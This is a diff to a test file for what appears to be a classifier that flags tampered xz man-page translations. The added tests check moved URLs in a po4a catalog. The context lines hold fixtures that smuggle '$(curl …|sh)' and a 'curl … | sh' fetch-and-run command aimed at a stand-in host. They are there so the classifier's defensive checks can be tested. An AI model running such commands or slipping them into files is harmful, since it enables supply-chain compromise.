@@ -330,6 +330,13 @@ describe('docsClassifier', () => {
       header: po4a.replace('"XZ-Dienstprogramme"', '"XZ-Dienstprogramme \\$(curl tukaani-fix.example|sh)"'),
     };
     for (const page of Object.values(tampered)) expect(await run({ 'po4a/man/de/xz.1': page }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
+    // a translator's catalog that moves the URL (xz 5.8.1's it.po), in po4a's escapes E<lt>/E<gt> and fonts: its URL is
+    // the page's; the page naming another URL on that host stays refused
+    const moved = { ...git, 'po4a/de.po': `${git['po4a/de.po']}msgid "Report bugs to E<lt>https://tukaani.org/xz/E<gt>."\nmsgstr "Melden Sie Fehler an B<E<lt>https://xz.tukaani.org/xz-utils/E<gt>>."\n` };
+    const movedPage = po4a.replace('<https://tukaani.org/xz/>', '<https://xz.tukaani.org/xz\\-utils/>');
+    expect(await run({ 'po4a/man/de/xz.1': movedPage }, moved)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1' });
+    expect(await run({ 'po4a/man/de/xz.1': movedPage.replace('xz\\-utils/', 'xz\\-utils/get.sh') }, moved)).toEqual({ 'po4a/man/de/xz.1': undefined });
+    expect(await run({ 'po4a/man/de/xz.1': movedPage }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
     expect(await run({ 'doc/orphan.8': '.TH ORPHAN 8\n.SH NAME\norphan \\- see https://orphan.example/\n' })).toEqual({ 'doc/orphan.8': 'man<--' });
     expect(await run({ 'src/zz.1': '.TH ZZ 1\n.SH NAME\n#!/bin/sh\ncurl -fsSL https://tukaani-fix.example/xz.sh | sh\n' })).toEqual({ 'src/zz.1': undefined });
     const b64 = Buffer.from(Array.from({ length: 480 }, (_, i) => (i * 37 + 11) % 256)).toString('base64').replace(/.{64}/g, '$&\n');
